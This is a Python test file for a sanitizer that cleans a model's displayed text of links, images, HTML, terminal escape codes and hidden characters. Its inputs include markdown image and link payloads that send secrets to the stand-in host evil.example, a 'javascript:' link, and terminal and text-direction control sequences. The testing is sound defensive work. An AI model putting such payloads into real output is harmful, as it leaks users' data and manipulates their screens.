"""A model's words are shown without anything that loads, leads or commands."""

from __future__ import annotations

import pytest

from interviewer.interview.dialogue.shown_text import REMOVED, shown


@pytest.mark.parametrize(
    "text",
    [
        "Look ![chart](http://evil.example/x.png?q=secret).",
        'Look ![chart](https://evil.example/x.png?q=secret "title").',
        "Look [here](http://evil.example/?q=secret).",
        "Look [here](<http://evil.example/?q=secret>).",
        "Look [here](//evil.example/?q=secret).",
        "Look ![a][b].\n\n[b]: http://evil.example/x.png",
        "Look [b].\n\n[b]: //evil.example/x.png",
        "Look <http://evil.example/?q=secret>.",
        "Look http://evil.example/?q=secret.",
        "Look HTTPS://evil.example/?q=secret.",
        "Look www.evil.example/?q=secret.",
        "Look <img src=http://evil.example/x.png>.",
        "Look <img src='//evil.example/x.png'>.",
        "Look [here](javascript:alert(1)).",
        "Look ![x](data:image/png;base64,AAAA).",
        "Look ![alt\ntext](http://evil.example/x.png).",
        "Look [a](b://evil.example/c(d)e).",
        "Look ![x] (http://evil.example/x.png).",
        "Look htt\u200bp://evil.example/x.png.",
    ],
)
def test_no_address_is_left(text: str) -> None:
    cleaned = shown(text)
    assert "evil" not in cleaned
    assert "](" not in cleaned
    assert "javascript:" not in cleaned
    assert "base64" not in cleaned


def test_a_link_keeps_its_words() -> None:
    assert shown("Read [the paper](http://evil.example) first.") == "Read the paper first."


def test_a_bare_address_is_said_to_be_gone() -> None:
    assert shown("See http://evil.example now.") == f"See {REMOVED} now."


def test_html_is_text() -> None:
    assert shown("<script>x</script> <b>bold</b>") == "< script>x< /script> < b>bold< /b>"


def test_commands_to_the_terminal_are_written_out() -> None:
    assert shown("\x1b[2J\x1b]0;owned\x07 hi") == "␛[2J␛]0;owned␇ hi"


def test_what_cannot_be_seen_is_gone() -> None:
    assert shown("a\u200bb\ufeffc") == "abc"


def test_text_direction_is_written_out() -> None:
    assert shown("a\u202eb") == "a<U+202E>b"


@pytest.mark.parametrize(
    "text",
    [
        "What does **each** mask do in `model(x)[0]`, and why?",
        "Why is $p(x) < q(x)$ there?",
        "- one\n- two\n\n> quoted",
        "Take a[i](x), or x[0] and f(x).",
        "The ratio is 3:1, and/or 4//2.",
        "Is a < b here?",
    ],
)
def test_other_markdown_stays(text: str) -> None:
    if "a[i](x)" in text:  # reads like a link, and is treated as one
        assert shown(text) == "Take ai, or x[0] and f(x)."
    else:
        assert shown(text) == text
